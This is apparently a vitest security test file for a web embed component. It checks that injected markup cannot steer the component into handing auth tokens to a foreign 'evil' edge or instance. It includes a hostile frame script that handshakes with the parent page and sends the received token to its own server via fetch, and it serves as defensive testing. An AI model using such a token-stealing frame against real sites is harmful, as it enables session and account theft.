import type { RequestListener } from 'node:http'
import { describe, expect, test } from 'vitest'
import { ARRANGEMENTS, biuwer, heard, issue, open, prepareCore, RESOURCE, type Sites } from './core.ts'
import { prepareForeignSite } from './foreign-site.ts'

prepareCore()
/** Somebody's server that plays an edge. */
const evil = prepareForeignSite()

/** What the foreign frame does: it says hello, as the edge's does, and tells its server what it was given. */
const TAKE = `<script>
  addEventListener('message', ({ ports: [port] }) => {
    if (port) port.onmessage = ({ data }) => fetch('/got?' + data.token)
  })
  parent.postMessage({ type: 'biuwer-embed:hello' }, '*')
</script>`

/** A policy with which scripts can't be injected, but frames can. */
const POLICY = ({ edge }: Sites) => ({ 'Content-Security-Policy': `script-src 'self' ${edge}` })

/** A host's backend that gives tokens, and the script `allow.js` of its page. Counts the tokens that it gave. */
async function backend(script = '') {
  const { token } = await issue()
  const given = { tokens: 0 }
  const answer: RequestListener = ({ url = '' }, response) => {
    const isScript = url.endsWith('/allow.js')
    if (!isScript) given.tokens++
    response
      .writeHead(200, { 'Content-Type': isScript ? 'text/javascript' : 'application/json' })
      .end(isScript ? script : JSON.stringify({ token }))
  }
  return { token, given, answer }
}

describe.each(ARRANGEMENTS)('%s', (_, sites) => {
  test.each([
    ['as a module', '<script type="module" src="EDGE/biuwer-embed.js"></script>'],
    ['as a classic script', '<script src="EDGE/biuwer-embed.iife.js"></script>'],
  ])('markup without a script gets no token to another edge, with the tag %s', async (_, tag) => {
    evil.html = TAKE
    const { given, answer } = await backend()
    const injected = `<biuwer-embed edge="${evil.origin}" resource-id="${RESOURCE}" token-url="token"></biuwer-embed>`
    const tab = await open(sites, tag.replace('EDGE', sites.edge) + injected, {
      script: false,
      headers: POLICY(sites),
      answer,
    })
    const { code, message } = await heard(tab, 'biuwer-error')
    expect(code).toBe('invalid_request')
    expect(message).toContain(`allowEdges(['${evil.origin}'])`)
    // The page's own tag opens beside it, so that there was time for the other one.
    await tab.evaluate((resource) => {
      const own = `<biuwer-embed resource-id="${resource}" token-url="token"></biuwer-embed>`
      document.body.insertAdjacentHTML('beforeend', own)
    }, RESOURCE)
    await heard(tab, 'biuwer-ready')
    expect(given.tokens).toBe(1)
    expect(evil.asked).toEqual([])
  })

  test('markup without a script gets no token to another instance', async () => {
    const { given, answer } = await backend()
    const injected = `<biuwer-embed instance="evil" resource-id="${RESOURCE}" token-url="token"></biuwer-embed>`
    const tab = await open(sites, injected, { headers: POLICY(sites), answer })
    const { code, message } = await heard(tab, 'biuwer-error')
    expect(code).toBe('invalid_request')
    expect(message).toContain("allowInstances(['evil'])")
    expect(given.tokens).toBe(0)
  })

  test.each([
    ['a module', 'type="module"', `import { allowEdges } from 'EDGE/biuwer-embed.js'; allowEdges(['EVIL'])`],
    ['a classic script', 'defer', `customElements.get('biuwer-embed').allowEdges(['EVIL'])`],
  ])('a page opens at another edge that %s of its own allowed', async (_, kind, script) => {
    evil.html = TAKE
    const { token, given, answer } = await backend(
      script.replace('EDGE', sites.edge).replace('EVIL', evil.origin),
    )
    const markup = `<biuwer-embed edge="${evil.origin}" resource-id="${RESOURCE}" token-url="token"></biuwer-embed>`
    const tab = await open(sites, `<script ${kind} src="allow.js"></script>${markup}`, {
      headers: POLICY(sites),
      answer,
    })
    await tab.until('the frame', () =>
      document.querySelector('biuwer-embed')?.shadowRoot?.querySelector('iframe'),
    )
    await expect.poll(() => evil.asked).toContain(`/got?${token}`)
    expect(given.tokens).toBe(1)
    expect(biuwer.asked).toBe(0)
  })
})
